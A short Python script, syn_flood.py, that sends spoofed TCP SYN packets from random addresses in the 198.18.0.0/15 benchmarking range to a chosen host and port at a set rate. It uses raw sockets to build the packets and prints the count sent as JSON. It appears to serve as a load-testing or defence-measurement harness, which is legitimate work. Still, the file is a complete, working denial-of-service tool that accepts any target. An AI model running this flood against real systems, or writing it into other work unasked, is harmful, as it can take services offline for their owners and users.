# Spoofed TCP SYNs to DST:PORT at RATE a second for SECS seconds, each from its own address in
# 198.18.0.0/15 (the benchmarking range) and port, never followed up: a SYN flood. Raw IP
# socket (IP_HDRINCL); the packets are built first (RATE x SECS of them, up to 2M, so that each
# is a connection of its own), READY is then created, and they go out in paced batches. One
# JSON line: SYNs sent and the rate reached.
#
#   python3 syn_flood.py DST PORT SECS RATE READY
import json, os, random, socket, struct, sys, time

DST, PORT, SECS, RATE, READY = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]), sys.argv[5]

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF

def syn(src, sport, dst):
    # MSS 1460 as the only option: a plain SYN from a stack with defaults.
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, PORT, random.getrandbits(32), 0, (5 + len(opts) // 4) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp

dst = socket.inet_aton(DST)
# Distinct (address, port) pairs: 2^17 addresses x 2^16 ports, drawn without repeats.
N = int(min(RATE * SECS, 2_000_000))
pairs = random.sample(range(1 << 33), N)
ring = [syn(struct.pack("!I", 0xC6120000 | (p >> 16)), max(1, p & 0xFFFF), dst) for p in pairs]
open(READY, "w").close()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
target = (DST, 0)
sent, start = 0, time.perf_counter()
end = start + SECS
BATCH = 64
while True:
    now = time.perf_counter()
    if now >= end:
        break
    # Open loop: never ahead of RATE since the start.
    ahead = sent - (now - start) * RATE
    if ahead > 0:
        time.sleep(ahead / RATE)
        continue
    for i in range(BATCH):
        try:
            s.sendto(ring[(sent + i) % N], target)
        except OSError:
            pass
    sent += BATCH
elapsed = time.perf_counter() - start
print(json.dumps({"syns_sent": sent, "per_s": round(sent / elapsed)}))
